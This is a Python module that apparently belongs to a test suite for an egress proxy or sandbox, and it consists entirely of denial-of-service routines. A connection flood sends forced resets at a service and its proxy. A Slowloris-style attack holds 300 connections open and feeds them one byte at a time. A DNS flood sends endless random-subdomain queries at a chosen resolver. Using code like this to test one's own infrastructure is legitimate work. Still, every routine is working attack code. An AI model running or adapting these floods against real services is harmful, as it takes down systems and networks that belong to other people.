"""Attacks on the carrier of connections: more connections than it can carry, and some that never get to a request."""

from __future__ import annotations

import contextlib
import errno
import itertools
import os
import socket
import struct
import time
from urllib.parse import urlsplit

from .talk import Place, connect, connect_to_proxy, must_reach, proxy_credentials
from .way import in_one_way

_AT_ONCE = 300  # connections
_PAUSE = 0.002  # seconds, so that the attacked process works and not this one


@in_one_way("connections")
def flood_the_way_out(granted: Place, seconds: float) -> str:
    """Connect and hang up, as often as possible, to the granted service and to its proxy."""
    host, port = granted
    must_reach(host, port)
    made, deadline = 0, time.monotonic() + seconds
    asking = f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n".encode() + proxy_credentials() + b"\r\n"
    while time.monotonic() < deadline:
        for open_one in (lambda: connect(host, port), connect_to_proxy):
            with contextlib.suppress(OSError), open_one() as line:
                line.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                line.sendall(asking)
                made += 1
    if not made:
        raise RuntimeError("not one connection was made")
    return f"{made} connections"


@in_one_way("slow requests")
def keep_the_way_out_busy(granted: Place, seconds: float) -> str:
    """Hold many connections, and send one letter at a time on each of them."""
    host, port = granted
    must_reach(host, port)
    with contextlib.ExitStack() as stack:
        lines = []
        with contextlib.suppress(OSError):
            while len(lines) < _AT_ONCE:
                lines.append(stack.enter_context(_begun(host, port)))
        words = itertools.chain(b"GET / HTTP/1.1\r\nX: ", itertools.repeat(ord("x")))
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            letter = bytes([next(words)])
            for line in lines:
                with contextlib.suppress(OSError):
                    line.send(letter)
            time.sleep(_PAUSE)
    if not lines:
        raise RuntimeError("not one connection was made")
    return f"{len(lines)} connections"


def _begun(host: str, port: int) -> socket.socket:
    """Return a connection that is being made, to the service or else to the proxy."""
    there = urlsplit(os.environ.get("HTTP_PROXY", ""))
    for place in ((host, port), (there.hostname or "", there.port or 0)):
        line = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        if line.connect_ex(place) in (0, errno.EINPROGRESS):
            return line
        line.close()
    raise OSError("there is no way out")


@in_one_way("lookups")
def flood_with_lookups(granted: Place, name: str, server: Place, seconds: float) -> str:
    """Look up names without end, another one each time."""
    must_reach(*granted)
    sent, deadline = 0, time.monotonic() + seconds
    rest = b"".join(bytes([len(label)]) + label for label in name.encode().split(b".")) + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as requester:
        requester.connect(tuple(server))
        requester.setblocking(False)
        while time.monotonic() < deadline:
            label = b"%d" % sent
            query = struct.pack(">HHHHHH", sent & 0xFFFF, 0x100, 1, 0, 0, 0) + bytes([len(label)]) + label + rest
            with contextlib.suppress(OSError):
                requester.send(query)
                sent += 1
    return f"{sent} lookups"
